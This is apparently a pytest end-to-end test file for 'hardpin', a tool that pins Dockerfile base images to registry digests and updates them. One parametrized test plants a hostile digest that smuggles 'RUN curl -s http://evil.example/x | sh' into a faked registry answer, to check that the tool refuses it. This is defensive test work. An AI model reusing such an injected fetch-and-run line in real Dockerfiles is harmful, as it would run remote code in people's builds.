"""`hardpin check --fix`, `hardpin update` and `check --online` against a real registry.

Images are pushed to Debian's docker-registry (CNCF distribution) by the tests; the
CLI runs as a user runs it, with its own cache directory, reaching the registry
through a counting proxy (tests/registry_support.py).
"""

from __future__ import annotations

import base64
import json
import re
from pathlib import Path
from typing import Any

import pytest
from conftest import run_cli
from registry_support import (
    FaultProxy,
    Registry,
    fault_proxy,
    move_tag,
    push_image,
    registry_anon,
    registry_anon_tls,
    registry_basic,
)

DOCKERFILE = """\
# syntax=docker/dockerfile:1
ARG BASE=HOST/e2e/python:3.12
ARG TOOLS="HOST/e2e/uv:0.4"
FROM --platform=$BUILDPLATFORM ${BASE} AS build
COPY --from=HOST/e2e/uv:0.4 /uv /bin/uv
RUN --mount=type=bind,from=HOST/e2e/alpine:3.20,target=/a \\
    echo hi
from HOST/e2e/python:3.12-slim as runtime
COPY --from=${TOOLS} /uv /bin/uv
FROM \\
  # a comment inside the continuation stays
  HOST/e2e/busybox
COPY --from=build /x /x
"""

SUB = "FROM HOST/e2e/python:3.12\r\nFROM HOST/e2e/python:9.9 AS gone\r\nCOPY --from=HOST/e2e/uv:0.4 / /\r\n"


def _env(tmp_path: Path, **extra: str) -> dict[str, str]:
    return {
        "HARDPIN_OFFLINE": "",
        "HARDPIN_CACHE_DIR": str(tmp_path / "cache"),
        "DOCKER_CONFIG": str(tmp_path / "no-docker-config"),
        **extra,
    }


def _images(reg: Registry) -> dict[str, dict[str, Any]]:
    return {
        "python:3.12": push_image(reg, "e2e/python", "3.12", "oci-index"),
        "python:3.12-slim": push_image(reg, "e2e/python", "3.12-slim", "docker-list"),
        "uv:0.4": push_image(reg, "e2e/uv", "0.4", "docker"),
        "alpine:3.20": push_image(reg, "e2e/alpine", "3.20", "oci"),
        "busybox:latest": push_image(reg, "e2e/busybox", "latest", "docker"),
    }


def _project(tmp_path: Path, host: str) -> Path:
    root = tmp_path / "repo"
    (root / "sub").mkdir(parents=True)
    (root / ".hardpin.toml").write_text(f'insecure-registries = ["{host}"]\n')
    (root / "Dockerfile").write_text(DOCKERFILE.replace("HOST", host))
    (root / "sub" / "Dockerfile").write_bytes(SUB.replace("HOST", host).encode())
    return root


def test_fix_pins_every_site_to_the_index_digest(
    fault_proxy: FaultProxy, registry_anon: Registry, tmp_path: Path
) -> None:
    d = {k: v["digest"] for k, v in _images(registry_anon).items()}
    host = fault_proxy.host
    root = _project(tmp_path, host)
    fault_proxy.clear()

    r = run_cli("check", "--fix", "--select", "HP101", ".", cwd=root, env=_env(tmp_path))

    expected = DOCKERFILE.replace("HOST", host)
    for name, new in [
        ("python:3.12", f"python:3.12@{d['python:3.12']}"),
        ('uv:0.4"', f'uv:0.4@{d["uv:0.4"]}"'),  # the ARG default, inside its quotes
        ("uv:0.4 /uv", f"uv:0.4@{d['uv:0.4']} /uv"),
        ("alpine:3.20,", f"alpine:3.20@{d['alpine:3.20']},"),
        ("python:3.12-slim as", f"python:3.12-slim@{d['python:3.12-slim']} as"),
        ("busybox\n", f"busybox:latest@{d['busybox:latest']}\n"),
    ]:
        assert name in expected
        expected = expected.replace(name, new, 1)
    assert (root / "Dockerfile").read_text() == expected
    # the other file: CRLF kept, the missing tag left alone, the rest pinned
    sub = (root / "sub" / "Dockerfile").read_bytes().decode()
    assert sub == (
        f"FROM {host}/e2e/python:3.12@{d['python:3.12']}\r\n"
        f"FROM {host}/e2e/python:9.9 AS gone\r\n"
        f"COPY --from={host}/e2e/uv:0.4@{d['uv:0.4']} / /\r\n"
    )
    assert r.returncode == 1
    assert r.stderr.splitlines() == [
        f"sub/Dockerfile:2:6: HP101 cannot fix: {host}/e2e/python:9.9: tag not found (HTTP 404)"
    ]
    # reported once: on stderr, not again in the finding's text
    assert "cannot fix" not in r.stdout
    assert "sub/Dockerfile:2:6: HP101 error: FROM image" in r.stdout
    # every distinct reference asked once, with one GET, across both files
    gets = sorted(p for m, p, _s in fault_proxy.log if m == "GET")
    assert len(fault_proxy.log) == len(gets) == 6
    assert gets == sorted(
        {
            "/v2/e2e/python/manifests/3.12",
            "/v2/e2e/python/manifests/3.12-slim",
            "/v2/e2e/uv/manifests/0.4",
            "/v2/e2e/alpine/manifests/3.20",
            "/v2/e2e/busybox/manifests/latest",
            "/v2/e2e/python/manifests/9.9",
        }
    )

    # a second --fix changes nothing; answers come from the cache (the 404 is asked again)
    before = {p: p.read_bytes() for p in root.rglob("*") if p.is_file()}
    fault_proxy.clear()
    again = run_cli("check", "--fix", "--select", "HP101", ".", cwd=root, env=_env(tmp_path))
    assert {p: p.read_bytes() for p in root.rglob("*") if p.is_file()} == before
    assert again.returncode == 1
    assert [p for _m, p, _s in fault_proxy.log] == ["/v2/e2e/python/manifests/9.9"]

    # --offline answers from the cache alone
    fault_proxy.clear()
    (root / "Dockerfile").write_text(DOCKERFILE.replace("HOST", host))
    off = run_cli(
        "check",
        "--fix",
        "--offline",
        "--select",
        "HP101",
        "Dockerfile",
        cwd=root,
        env=_env(tmp_path),
    )
    assert (root / "Dockerfile").read_text() == expected and off.returncode == 0
    assert fault_proxy.requests == 0


def test_diff_and_unreachable_registry_write_nothing(
    registry_anon: Registry, tmp_path: Path
) -> None:
    _images(registry_anon)
    root = _project(tmp_path, registry_anon.host)
    original = (root / "Dockerfile").read_text()
    r = run_cli("check", "--diff", "--select", "HP101", "Dockerfile", cwd=root, env=_env(tmp_path))
    assert r.returncode == 1 and (root / "Dockerfile").read_text() == original
    added = [ln for ln in r.stdout.splitlines() if ln.startswith("+") and not ln.startswith("+++")]
    assert len(added) == 6 and all("@sha256:" in ln for ln in added)
    # a registry nobody listens on: one error per reference, nothing written
    dead = "127.0.0.1:9"
    (root / "Dockerfile").write_text(original.replace(registry_anon.host, dead))
    (root / ".hardpin.toml").write_text(f'insecure-registries = ["{dead}"]\n')
    r = run_cli(
        "check", "--fix", "--select", "HP101", "Dockerfile", cwd=root, env=_env(tmp_path / "x")
    )
    assert r.returncode == 1
    assert (root / "Dockerfile").read_text() == original.replace(registry_anon.host, dead)
    errors = r.stderr.splitlines()
    assert len(errors) == 6
    assert all(
        re.fullmatch(
            r"Dockerfile:\d+:\d+: HP101 cannot fix: 127\.0\.0\.1:9/e2e/\S+: "
            r"http://127\.0\.0\.1:9/v2/\S+: connection refused",
            e,
        )
        for e in errors
    ), errors


def test_plain_http_registry_must_be_listed(registry_anon: Registry, tmp_path: Path) -> None:
    _images(registry_anon)
    root = _project(tmp_path, registry_anon.host)
    (root / ".hardpin.toml").write_text("")
    r = run_cli("check", "--fix", "--select", "HP101", "Dockerfile", cwd=root, env=_env(tmp_path))
    assert r.returncode == 1
    # not listed: spoken to over TLS, which a plain-HTTP registry cannot answer
    assert len(r.stderr.splitlines()) == 6
    assert "serves plain HTTP, list it in `insecure-registries`" in r.stderr
    assert "sha256" not in (root / "Dockerfile").read_text()


def test_credentials_from_docker_config(registry_basic: Registry, tmp_path: Path) -> None:
    pushed = push_image(registry_basic, "e2e/private", "1.0", "oci-index")
    root = tmp_path / "repo"
    root.mkdir()
    (root / ".hardpin.toml").write_text(f'insecure-registries = ["{registry_basic.host}"]\n')
    (root / "Dockerfile").write_text(f"FROM {registry_basic.host}/e2e/private:1.0\n")
    env = _env(tmp_path)
    no_creds = run_cli("check", "--fix", "Dockerfile", cwd=root, env=env)
    assert no_creds.returncode == 1 and "sha256" not in (root / "Dockerfile").read_text()
    user, password = registry_basic.credentials()
    cfg = tmp_path / "docker"
    cfg.mkdir()
    auth = base64.b64encode(f"{user}:{password}".encode()).decode()
    (cfg / "config.json").write_text(json.dumps({"auths": {registry_basic.host: {"auth": auth}}}))
    r = run_cli(
        "check",
        "--fix",
        "--refresh",
        "--verbose",
        "Dockerfile",
        cwd=root,
        env={**env, "DOCKER_CONFIG": str(cfg)},
    )
    assert (
        root / "Dockerfile"
    ).read_text() == f"FROM {registry_basic.host}/e2e/private:1.0@{pushed['digest']}\n"
    # --verbose says what it did (the 401 challenge, then the request with credentials)...
    assert "1 lookups (0 failed), 2 requests" in r.stderr
    for stream in (no_creds.stdout, no_creds.stderr, r.stdout, r.stderr):
        assert password not in stream and auth not in stream  # ...and never shows a secret


def test_update_moves_stale_digests_and_keeps_single_platform_pins(
    registry_anon: Registry, tmp_path: Path
) -> None:
    host = registry_anon.host
    old_index = push_image(registry_anon, "upd/python", "3.12", "oci-index")
    old_list = push_image(registry_anon, "upd/slim", "1", "docker-list")
    steady = push_image(registry_anon, "upd/steady", "1", "docker")
    root = tmp_path / "repo"
    root.mkdir()
    (root / ".hardpin.toml").write_text(f'insecure-registries = ["{host}"]\n')
    arm = old_list["children"]["linux/arm64"]
    text = (
        f"FROM {host}/upd/python:3.12@{old_index['digest']}\n"
        f"FROM --platform=linux/arm64 {host}/upd/slim:1@{arm} AS arm\n"
        f"FROM {host}/upd/steady:1@{steady['digest']}\n"
    )
    (root / "Dockerfile").write_text(text)
    env = _env(tmp_path)

    assert run_cli("update", "--check", cwd=root, env=env).returncode == 0
    new_index = move_tag(registry_anon, "upd/python", "3.12", "oci-index")
    new_list = move_tag(registry_anon, "upd/slim", "1", "docker-list")
    new_arm = new_list["children"]["linux/arm64"]

    chk = run_cli("update", "--check", cwd=root, env=env)
    assert chk.returncode == 1
    assert (root / "Dockerfile").read_text() == text
    assert chk.stdout.splitlines() == [
        f"Dockerfile:1: {host}/upd/python:3.12 {old_index['digest']} -> {new_index['digest']}",
        f"Dockerfile:2: {host}/upd/slim:1 {arm} -> {new_arm}",
    ]

    upd = run_cli("update", cwd=root, env=env)
    assert upd.returncode == 0, upd.stderr
    assert (root / "Dockerfile").read_text() == (
        f"FROM {host}/upd/python:3.12@{new_index['digest']}\n"
        f"FROM --platform=linux/arm64 {host}/upd/slim:1@{new_arm} AS arm\n"
        f"FROM {host}/upd/steady:1@{steady['digest']}\n"
    )
    assert run_cli("update", "--check", cwd=root, env=env).returncode == 0


def test_online_checks_hp601_hp602(registry_anon: Registry, tmp_path: Path) -> None:
    host = registry_anon.host
    cur = push_image(registry_anon, "onl/app", "1", "oci-index")
    old = push_image(registry_anon, "onl/app", "2", "docker")
    move_tag(registry_anon, "onl/app", "2", "docker")
    root = tmp_path / "repo"
    root.mkdir()
    (root / ".hardpin.toml").write_text(f'insecure-registries = ["{host}"]\n')
    missing = "sha256:" + "ab" * 32
    (root / "Dockerfile").write_text(
        f"FROM {host}/onl/app:1@{cur['digest']}\n"
        f"FROM {host}/onl/app:2@{old['digest']}\n"
        f"FROM {host}/onl/app@{missing}\n"
        f"FROM {host}/onl/app:1@{missing}\n"
    )
    r = run_cli(
        "check",
        "--online",
        "--format",
        "json",
        "--select",
        "HP6",
        "Dockerfile",
        cwd=root,
        env=_env(tmp_path),
    )
    found = [(f["code"], f["line"], f["column"]) for f in json.loads(r.stdout)["findings"]]
    assert found == [("HP602", 2, 6), ("HP601", 3, 6), ("HP601", 4, 6)]
    assert r.returncode == 1
    # whether line 4's tag moved cannot be told: its pinned manifest, which says its
    # platform, is gone. Not a verdict: one line says so, and HP601 has the finding
    assert re.fullmatch(
        rf"Dockerfile:4:6: HP602 cannot check: {host}/onl/app@{missing}: "
        r"manifest not found \(HTTP 404\)\n",
        r.stderr,
    ), r.stderr
    # offline lint never runs them
    off = run_cli(
        "check", "--format", "json", "--select", "HP6", "Dockerfile", cwd=root, env=_env(tmp_path)
    )
    assert json.loads(off.stdout)["findings"] == [] and off.returncode == 0


def test_progress_bar_on_a_terminal_only(registry_anon: Registry, tmp_path: Path) -> None:
    import os
    import pty
    import subprocess
    import sys

    from conftest import ROOT

    host = registry_anon.host
    for i in range(8):
        push_image(registry_anon, "prog/app", f"v{i}", "docker")
    root = tmp_path / "repo"
    root.mkdir()
    (root / ".hardpin.toml").write_text(f'insecure-registries = ["{host}"]\n')
    text = "".join(f"FROM {host}/prog/app:v{i} AS s{i}\n" for i in range(8))
    env = {**os.environ, **_env(tmp_path), "PYTHONPATH": str(ROOT / "src"), "TERM": "xterm"}
    env.pop("NO_COLOR", None)

    def run(stderr_is_a_terminal: bool) -> str:
        (root / "Dockerfile").write_text(text)
        env["HARDPIN_CACHE_DIR"] = str(tmp_path / f"cache-{stderr_is_a_terminal}")
        cmd = [sys.executable, "-m", "hardpin", "check", "--fix", "--select", "HP101", "Dockerfile"]
        if not stderr_is_a_terminal:
            return subprocess.run(cmd, cwd=root, env=env, capture_output=True, text=True).stderr
        main, secondary = pty.openpty()
        proc = subprocess.Popen(cmd, cwd=root, env=env, stdout=subprocess.DEVNULL, stderr=secondary)
        os.close(secondary)
        out = b""
        while True:
            try:
                chunk = os.read(main, 4096)
            except OSError:
                break
            if not chunk:
                break
            out += chunk
        proc.wait(timeout=60)
        os.close(main)
        return out.decode(errors="replace")

    shown = run(True)
    assert "resolving" in shown and "8/8" in shown
    assert run(False) == ""
    assert (root / "Dockerfile").read_text().count("@sha256:") == 8


def test_online_checks_are_not_verdicts_when_the_registry_cannot_answer(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    root.mkdir()
    (root / ".hardpin.toml").write_text('insecure-registries = ["127.0.0.1:9"]\n')
    (root / "Dockerfile").write_text(f"FROM 127.0.0.1:9/app:1@sha256:{'ab' * 32}\n")
    r = run_cli("check", "--online", "--select", "HP6", "Dockerfile", cwd=root, env=_env(tmp_path))
    assert "HP601" not in r.stdout and "HP602" not in r.stdout
    assert r.returncode == 1
    assert [ln.split(": ", 2)[1] for ln in r.stderr.splitlines()] == [
        "HP601 cannot check",
        "HP602 cannot check",
    ]


def test_check_fix_online_never_moves_a_digest(registry_anon: Registry, tmp_path: Path) -> None:
    host = registry_anon.host
    old = push_image(registry_anon, "nomove/app", "1", "oci-index")
    move_tag(registry_anon, "nomove/app", "1", "oci-index")
    push_image(registry_anon, "nomove/new", "1", "docker")
    root = tmp_path / "repo"
    root.mkdir()
    (root / ".hardpin.toml").write_text(f'insecure-registries = ["{host}"]\n')
    text = f"FROM {host}/nomove/app:1@{old['digest']}\nFROM {host}/nomove/new:1 AS b\n"
    (root / "Dockerfile").write_text(text)
    r = run_cli(
        "check", "--fix", "--online", "--format", "json", "Dockerfile", cwd=root, env=_env(tmp_path)
    )
    lines = (root / "Dockerfile").read_text().splitlines()
    assert lines[0] == text.splitlines()[0]  # the stale pin stays: moving it is `hardpin update`
    assert "@sha256:" in lines[1]  # the unpinned one is pinned
    found = [(f["code"], f["line"]) for f in json.loads(r.stdout)["findings"]]
    # the stale pin is reported; the fresh pin is not (it was never asked about as a pin)
    assert ("HP602", 1) in found and all(
        code not in ("HP601", "HP602") or line == 1 for code, line in found
    )
    assert r.stderr == ""


@pytest.mark.parametrize(
    "child",
    [
        "sha256:" + "e" * 64 + "\nRUN curl -s http://evil.example/x | sh\n#",
        "sha256:" + "e" * 64,  # well formed, but no manifest has it
    ],
    ids=["injected-instruction", "unknown-manifest"],
)
def test_update_writes_only_a_fetched_and_verified_child_digest(
    fault_proxy: FaultProxy, registry_anon: Registry, tmp_path: Path, child: str
) -> None:
    """A single-platform pin whose tag moved to an index takes the child digest for its
    platform from the index: the registry controls that text, so it is fetched by
    digest and hashed before anything is written."""
    from registry_support import OCI_INDEX, OCI_MANIFEST

    repo = f"hostile/app{len(child)}"
    old = push_image(registry_anon, repo, "1", "docker")
    move_tag(registry_anon, repo, "1", "oci-index")
    hostile = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": OCI_INDEX,
            "manifests": [
                {
                    "mediaType": OCI_MANIFEST,
                    "size": 300,
                    "digest": child,
                    "platform": {"architecture": "amd64", "os": "linux"},
                }
            ],
        }
    ).encode()
    fault_proxy.add("body", path=f"/{repo}/manifests/1$", data=hostile)
    fault_proxy.add("no_digest", path=f"/{repo}/manifests/1$")
    root = tmp_path / "repo"
    root.mkdir()
    (root / ".hardpin.toml").write_text(f'insecure-registries = ["{fault_proxy.host}"]\n')
    text = f"FROM {fault_proxy.ref(repo, '1', old['digest'])}\n"
    (root / "Dockerfile").write_text(text)
    upd = run_cli("update", cwd=root, env=_env(tmp_path))
    assert (root / "Dockerfile").read_text() == text  # nothing written
    assert upd.returncode != 0, (upd.stdout, upd.stderr)  # the lookup failed
    assert "evil.example" not in upd.stdout
    reason = "is not a digest" if "\n" in child else "manifest not found"
    assert reason in upd.stderr, upd.stderr


def test_a_registry_name_no_request_can_carry_is_a_clear_message(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    root.mkdir()
    text = "FROM rég.example/app:1\nFROM bad_host.example/app:1\n"
    (root / "Dockerfile").write_text(text)
    fix = run_cli("check", "--fix", "--select", "HP101", cwd=root, env=_env(tmp_path))
    assert (root / "Dockerfile").read_text() == text
    assert "unexpected answer" not in fix.stderr and "Error" not in fix.stderr
    assert "the registry name 'rég.example' is not ASCII" in fix.stderr, fix.stderr
    assert "the registry name 'bad_host.example' is not a host name" in fix.stderr


def test_the_request_timeout_setting_bounds_each_request(
    fault_proxy: FaultProxy, registry_anon: Registry, tmp_path: Path
) -> None:
    import time

    push_image(registry_anon, "slow/app", "1", "docker")
    fault_proxy.add("delay", seconds=3.0)
    root = tmp_path / "repo"
    root.mkdir()
    (root / ".hardpin.toml").write_text(
        f'insecure-registries = ["{fault_proxy.host}"]\nrequest-timeout = 0.5\n'
    )
    text = f"FROM {fault_proxy.ref('slow/app', '1')}\n"
    (root / "Dockerfile").write_text(text)
    t0 = time.monotonic()
    fix = run_cli("check", "--fix", "--select", "HP101", cwd=root, env=_env(tmp_path))
    assert time.monotonic() - t0 < 2.5
    assert (root / "Dockerfile").read_text() == text
    assert "no complete answer within 0.5 s" in fix.stderr, fix.stderr
    (root / ".hardpin.toml").write_text("request-timeout = 0\n")
    bad = run_cli("check", cwd=root, env=_env(tmp_path))
    assert bad.returncode == 2 and "request-timeout" in bad.stderr, bad.stderr


def test_fix_over_tls_with_the_system_trust_store(
    registry_anon_tls: Registry, tmp_path: Path
) -> None:
    from registry_support import shared_ca

    pushed = push_image(registry_anon_tls, "tls/app", "1", "oci-index")
    root = tmp_path / "repo"
    root.mkdir()
    (root / "Dockerfile").write_text(f"FROM {registry_anon_tls.ref('tls/app', '1')}\n")
    # an unknown CA: refused, nothing written
    fix = run_cli("check", "--fix", "--select", "HP101", cwd=root, env=_env(tmp_path))
    assert "TLS certificate not trusted" in fix.stderr, fix.stderr
    assert "@sha256:" not in (root / "Dockerfile").read_text()
    # trusted as OpenSSL reads it (no insecure-registries needed): pinned
    env = _env(tmp_path, SSL_CERT_FILE=shared_ca().cert_path)
    fix = run_cli("check", "--fix", "--select", "HP101", cwd=root, env=env)
    assert fix.returncode == 0, fix.stderr
    assert (root / "Dockerfile").read_text() == (
        f"FROM {registry_anon_tls.ref('tls/app', '1', pushed['digest'])}\n"
    )


SHARED = """\
ARG BASE=HOST/e2e/python:3.12
ARG ONLY=HOST/e2e/alpine:3.20
FROM ${BASE} AS a
FROM ${BASE}-slim AS b
FROM ${ONLY} AS c
COPY --from=${ONLY} / /
"""


def test_fix_leaves_a_shared_arg_alone_when_a_use_is_not_a_whole_reference(
    registry_anon: Registry, tmp_path: Path
) -> None:
    d = {k: v["digest"] for k, v in _images(registry_anon).items()}
    host = registry_anon.host
    root = tmp_path / "repo"
    root.mkdir()
    (root / ".hardpin.toml").write_text(f'insecure-registries = ["{host}"]\n')
    text = SHARED.replace("HOST", host)
    (root / "Dockerfile").write_text(text)

    r = run_cli("check", "--fix", "--select", "HP101", ".", cwd=root, env=_env(tmp_path))
    fixed = (root / "Dockerfile").read_text()
    # BASE is left alone (pinning it would make line 4 `…@sha256:…-slim`); ONLY is pinned
    assert fixed == text.replace("alpine:3.20\n", f"alpine:3.20@{d['alpine:3.20']}\n")
    assert "BASE is also used in line 4" in r.stdout
    assert r.returncode == 1
    # every FROM still names the image it named before
    from hardpin.analysis.dockerfile import image_sites
    from hardpin.model import Source
    from hardpin.parsers.dockerfile import parse

    def names(t: str) -> list[str]:
        return [s.expanded.split("@")[0] for s in image_sites(parse(Source("Dockerfile", t)))]

    assert names(fixed) == names(text)
    # a second run changes nothing
    again = run_cli("check", "--fix", "--select", "HP101", ".", cwd=root, env=_env(tmp_path))
    assert (root / "Dockerfile").read_text() == fixed
    assert again.returncode == 1
